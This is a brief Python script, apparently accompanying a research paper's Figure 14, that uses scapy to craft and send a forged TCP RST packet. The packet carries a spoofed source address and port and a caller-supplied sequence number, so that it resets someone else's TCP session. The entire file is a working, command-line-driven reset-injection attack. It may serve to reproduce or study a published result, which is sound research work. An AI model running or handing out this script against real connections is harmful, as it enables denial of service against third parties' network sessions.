# The paper's Figure 14: a forged RST for someone else's TCP session. It claims to come from SOURCE_IP:SPORT
# and carries the sequence number DEST_IP expects next (SEQ), which is what RFC 5961 makes Linux require.
import sys
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether
from scapy.sendrecv import sendp

iface, dest_mac, source_ip, sport, dest_ip, dport, seq = sys.argv[1:8]
rst = Ether(dst=dest_mac) / IP(src=source_ip, dst=dest_ip) / TCP(sport=int(sport), dport=int(dport), flags="R", seq=int(seq))
sendp(rst, iface=iface, verbose=False)
